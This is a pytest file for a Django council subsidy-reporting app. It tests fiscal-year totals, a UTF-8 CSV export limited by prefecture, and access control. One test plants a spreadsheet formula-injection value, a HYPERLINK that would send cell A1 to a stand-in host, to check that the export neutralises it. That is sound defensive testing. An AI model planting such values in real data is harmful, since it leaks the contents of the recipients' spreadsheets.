"""The council's figures: subsidy totals by fiscal year and the CSV export."""

from __future__ import annotations

import csv
import datetime as dt
import io

from django.test import Client
from django.urls import reverse

from keiei_web.cases.models import Case
from keiei_web.cases.workflow import State
from keiei_web.council.reports import subsidy_by_fiscal_year

from .conftest import PASSWORD, World, advance, new_case


def test_totals_by_fiscal_year_april_to_march(world: World, rich_case: Case) -> None:
    # plan claim 2025-06-10 (FY2025); monitoring claim on the first session, 2025-12-20 (FY2025)
    years = subsidy_by_fiscal_year(rich_case.claims.select_related("case"))
    assert [y.year for y in years] == [2025]
    [y] = years
    assert y.claims == 2
    assert y.subsidy_claimed == 800_000 + (100_000 + 800_000)
    assert y.subsidy_approved == y.subsidy_claimed
    assert y.by_program == {"405": y.subsidy_claimed}
    assert y.label == "2025年度（令和7年度）"


def test_a_claim_on_31_march_and_one_on_1_april_fall_in_different_years(world: World, rich_case: Case) -> None:
    claims = list(rich_case.claims.select_related("case"))
    claims[0].claimed_on = dt.date(2026, 3, 31)
    claims[1].claimed_on = dt.date(2026, 4, 1)
    years = {y.year: y.claims for y in subsidy_by_fiscal_year(claims)}
    assert years == {2025: 1, 2026: 1}


def test_csv_export_is_utf8_with_bom_for_excel_and_scoped(world: World, rich_case: Case) -> None:
    other = new_case(world, "405", company="t", banks=("other",))  # Tokyo: not in Osaka's export
    client = Client()
    assert client.login(username="council_osaka", password=PASSWORD)
    response = client.get(reverse("council:export_csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert (
        "attachment" in response["Content-Disposition"]
        and "keiei-cases-20251001.csv" in response["Content-Disposition"]
    )
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:5] == ["案件番号", "事業者", "都道府県", "事業区分", "状態"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["案件番号"] == rich_case.reference and row["事業者"] == "株式会社エー"
    assert row["状態"] == "伴走支援" and row["補助額（申請済）"] == "1700000"
    assert row["期限の状況"] == "済"
    assert other.company.name not in raw.decode("utf-8-sig")


def test_council_dashboard_shows_states_deadlines_and_years(world: World, rich_case: Case) -> None:
    advance(world, new_case(world, "405", company="b"), State.APPLIED)
    client = Client()
    assert client.login(username="council_osaka", password=PASSWORD)
    text = client.get(reverse("council:dashboard")).content.decode()
    assert "状態ごとの案件数" in text and "2025年度（令和7年度）" in text and "1,700,000円" in text
    assert "株式会社ビー" in text  # waiting for acceptance


def test_council_pages_are_for_council_staff_only(world: World) -> None:
    for name in ("adviser_a", "company_a", "bank_main"):
        client = Client()
        assert client.login(username=name, password=PASSWORD)
        assert client.get(reverse("council:dashboard")).status_code == 403
        assert client.get(reverse("council:export_csv")).status_code == 403


def test_csv_cells_that_could_run_as_formulas_are_neutralised(world: World, rich_case: Case) -> None:
    """Names typed by users reach the council's Excel: a leading = + - @ is prefixed with '."""
    rich_case.company.name = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    rich_case.company.save()
    rich_case.adviser_firm.name = "@SUM(A1)"
    rich_case.adviser_firm.save()
    main = next(cb.bank for cb in rich_case.banks.all() if cb.is_main)
    main.name = "-2+3"
    main.save()
    client = Client()
    assert client.login(username="council_osaka", password=PASSWORD)
    raw = client.get(reverse("council:export_csv")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["事業者"] == "'" + rich_case.company.name
    assert row["認定支援機関"] == "'@SUM(A1)"
    assert row["メイン金融機関"] == "'-2+3"
    # numbers stay numbers, dates stay dates
    assert row["補助額（申請済）"] == "1700000" and row["期限超過の件数"].isdigit()
    assert row["相談日"] == rich_case.consulted_on.isoformat()
    assert not any(cell[:1] in "=+-@\t\r" for r in rows for cell in r)
